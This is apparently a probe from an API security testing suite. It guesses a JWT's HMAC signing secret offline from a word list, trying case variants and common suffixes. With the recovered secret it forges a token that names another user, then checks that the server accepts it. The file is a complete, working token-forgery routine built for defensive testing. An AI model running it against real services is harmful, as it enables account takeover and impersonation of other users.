"""Guessing the secret that signs tokens, offline, from one token (OWASP API8, CWE-321)."""

from __future__ import annotations

import hashlib
import hmac
from collections.abc import Iterator
from pathlib import Path

from security.probe.json_token import base64url, decoded, encoded, identifying, named_by, parts_of
from security.probe.outcome import Verdict, not_applicable, stopped, succeeded
from security.probe.scene import Scene, require

WORDS = Path(__file__).with_name("common_secrets.txt")
DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
ENDINGS = ("", "1", "123", "!", "\n")


def signing_key_guessed(scene: Scene) -> Verdict:
    """Try a word list on an own token; with what is found, sign a token for somebody else."""
    own, victim = scene.people.sign_in(scene.people.bystander()), scene.people.sign_in()
    require(named_by(scene, own.token) == own.username, "The own token is not accepted.")
    header, claims, signature = parts_of(own.token)
    digest = DIGESTS.get(str(header.get("alg")))
    if digest is None:
        return not_applicable(f"Tokens are signed with {header.get('alg')}: there is no shared secret to guess.")
    message, tried = own.token.rpartition(".")[0].encode(), 0
    for secret in guesses():
        tried += 1
        if hmac.compare_digest(hmac.digest(secret, message, digest().name), decoded(signature)):
            forged = f"{encoded(header)}.{encoded({**claims, **identifying(victim.token, own.token)})}"
            token = f"{forged}.{base64url(hmac.digest(secret, forged.encode(), digest().name))}"
            named = named_by(scene, token)
            require(named == victim.username, f"A token signed with the secret that was found names {named}.")
            return succeeded(
                f"The secret is number {tried} of a list of {sum(1 for _ in guesses())}, found offline; a token signed "
                f"with it shows the account of {named}."
            )
    return stopped(f"None of {tried} common secrets gives the signature of an own token.")


def guesses() -> Iterator[bytes]:
    """Common secrets, each also in other letters and with common endings."""
    for line in WORDS.read_text(encoding="utf-8").splitlines():
        for word in dict.fromkeys((line, line.lower(), line.upper(), line.capitalize())):
            yield from ((word + ending).encode() for ending in ENDINGS)
